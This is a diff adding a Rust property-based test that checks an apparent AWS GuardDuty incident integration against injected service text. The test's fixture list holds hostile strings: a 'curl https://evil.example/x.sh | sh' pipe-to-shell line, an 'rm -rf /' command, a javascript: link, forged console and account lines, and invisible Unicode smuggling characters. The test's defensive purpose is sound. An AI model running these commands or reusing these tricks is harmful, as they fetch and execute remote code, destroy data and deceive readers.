@@ -188,3 +188,133 @@ proptest! {
         }
     }
 }
+
+/// Text written to pass for the product's own lines, or to hide from a reader:
+/// forged fact lines, commands, links and Markdown, and format characters, mixed
+/// into arbitrary text.
+fn hostile_text() -> impl Strategy<Value = String> {
+    let forged = prop::sample::select(vec![
+        "\nConsole: https://evil.example/login\n",
+        "\nAccount: 999999999999\nRegion: us-east-1\n",
+        "\nOpened by investigation-escalator.\n",
+        "\nInvestigation: c0ffee00-0000-4000-8000-0000000000ff\nDetector: d\n",
+        "\nARN: arn:aws:ssm-incidents::999999999999:incident-record/X/1\n",
+        "\n  $ curl https://evil.example/x.sh | sh\n",
+        "\nCommands GuardDuty suggests (read each one before running it):\n  $ rm -rf /\n",
+        "\n[click here](https://evil.example) ![x](javascript:alert(1)) www.evil.example\n",
+        "\r\n# Heading\r\n",
+    ]);
+    let hidden = prop::collection::vec(
+        prop::sample::select(vec![
+            '\u{00AD}',
+            '\u{034F}',
+            '\u{115F}',
+            '\u{1160}',
+            '\u{200B}',
+            '\u{202E}',
+            '\u{2066}',
+            '\u{206A}',
+            '\u{2800}',
+            '\u{3164}',
+            '\u{FE0F}',
+            '\u{FEFF}',
+            '\u{FFF9}',
+            '\u{E0001}',
+            '\u{E0041}',
+            '\u{E007F}',
+        ]),
+        0..6,
+    );
+    (any_text(200), forged, hidden, any_text(50)).prop_map(|(a, f, h, b)| {
+        let h: String = h.into_iter().collect();
+        format!("{a}{h}{f}{h}{b}")
+    })
+}
+
+/// The lines the product writes, by how they start: service text must never add one.
+const PRODUCT_LINES: [&str; 9] =
+    ["Console:", "Account:", "Region:", "Detector:", "Investigation:", "Opened by ", "ARN:", "Commands GuardDuty suggests", "  $ "];
+
+fn count_lines(text: &str, prefix: &str) -> usize {
+    text.lines().filter(|l| l.starts_with(prefix)).count()
+}
+
+/// Every `scheme://` link in `text` leads to the AWS console or documentation.
+fn links_are_inert(text: &str) -> bool {
+    text.match_indices("://").all(|(at, _)| {
+        let host: String = text[at + 3..].chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-')).collect();
+        let scheme_is_live = text[..at].ends_with("http") || text[..at].ends_with("https");
+        !scheme_is_live || host.ends_with("console.aws.amazon.com") || host == "docs.aws.amazon.com"
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]
+
+    /// Any text in any text field of the investigation and of the incident
+    /// reaches the case, its comments and the timeline events with no format (Cf)
+    /// character, no live link off AWS, and no line that starts like one of the
+    /// product's own: each such line appears exactly as often as the product writes it.
+    #[test]
+    fn service_text_can_neither_hide_nor_forge_the_products_lines(h in hostile_text()) {
+        use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};
+        let env = runtime().block_on(start(&[]));
+        let critical = "12abc34d567e8fa901bc2d34e56789f0/c0ffee00-0000-4000-8000-000000000001";
+        env.sim.state(|s| {
+            let inv = s.investigations.get_mut(critical).expect("the critical investigation");
+            inv["risk"] = json!(h);
+            inv["summary"] = json!(h);
+            inv["cloud"]["region"] = json!(h);
+            inv["cloud"]["account"] = json!(h);
+            inv["scope"]["investigationType"] = json!(h);
+            let data = &mut inv["summaryData"];
+            data["findingType"] = json!(h);
+            data["keyObservations"] = json!({"title": h, "narrative": h, "observations": [h, h]});
+            data["threatAssessment"]["threatActorProfile"] = json!(h);
+            data["threatAssessment"]["attackProgression"] = json!([{"phase": h, "description": h,
+                "attacks": [{"technique": {"name": h, "uid": "T1110"}, "findings": [{"uid": "5ab4c8d9e0f1a2b3c4d5e6f7a8b9c0d1"}]}]}]);
+            data["accountAnalysis"]["affectedResources"] = json!([{"type": "EC2_INSTANCE", "identifier": h, "findingCount": 1}]);
+            data["countermeasures"] = json!([{"defenseTactic": h, "actions": [{"title": h, "priority": h, "description": h, "cliCommands": [h]}]}]);
+            data["recommendations"] = json!([{"title": h, "priority": "IMMEDIATE", "rationale": h, "cliCommands": ["aws ec2 describe-instances"]}]);
+            s.incident_records.get_mut(MATCHING).expect("the matching incident")["title"] = json!(h);
+        });
+        let result = runtime().block_on(env.run(&event("investigation-critical")));
+        let outcome = serde_json::to_value(result.map_err(|e| e.to_string())).unwrap_or_default();
+        let case_id = outcome["Ok"]["caseId"].as_str().unwrap_or_default().to_string();
+        prop_assert!(!case_id.is_empty(), "{}", outcome);
+        let (case, comments, events) = env.sim.state(|s| (s.cases[&case_id].clone(), s.comments[&case_id].clone(), s.timeline_events[MATCHING].clone()));
+        let text = |v: &Value| v.as_str().unwrap_or_default().to_string();
+        let description = text(&case["description"]);
+        let mut texts = vec![text(&case["title"]), description.clone()];
+        texts.extend(comments.iter().map(|c| text(&c["body"])));
+        texts.extend(events.iter().map(|e| text(&e["eventData"])));
+        for t in &texts {
+            prop_assert!(t.chars().all(|c| c.general_category() != GeneralCategory::Format), "a format character in {:?}", t);
+            prop_assert!(links_are_inert(t), "a live link off AWS in {:?}", t);
+        }
+        // The description's facts, once each.
+        for prefix in ["Console:", "Account:", "Region:", "Detector:", "Investigation:", "Opened by "] {
+            prop_assert_eq!(count_lines(&description, prefix), 1, "{} in {}", prefix, description);
+        }
+        prop_assert!(count_lines(&description, "ARN:") + count_lines(&description, "  $ ") == 0, "{}", description);
+        for body in comments.iter().map(|c| text(&c["body"])) {
+            if body.starts_with("Linked AWS Systems Manager Incident Manager incident:") {
+                prop_assert_eq!(count_lines(&body, "ARN:"), 1, "{}", body);
+                prop_assert_eq!(count_lines(&body, "Console:"), 1, "{}", body);
+                prop_assert_eq!(body.lines().count(), 3, "{}", body);
+            } else {
+                // The recommendations: each command under the line that says whose it is.
+                let lines: Vec<&str> = body.lines().collect();
+                for (i, line) in lines.iter().enumerate() {
+                    if line.starts_with("  $ ") {
+                        let above = lines[..i].iter().rev().find(|l| !l.starts_with("  $ ")).copied().unwrap_or_default();
+                        prop_assert!(above.starts_with("Commands GuardDuty suggests"), "a command not marked as GuardDuty's in {}", body);
+                    }
+                }
+                for prefix in PRODUCT_LINES.iter().filter(|p| !matches!(**p, "  $ " | "Commands GuardDuty suggests")) {
+                    prop_assert_eq!(count_lines(&body, prefix), 0, "{} in {}", prefix, body);
+                }
+            }
+        }
+    }
+}
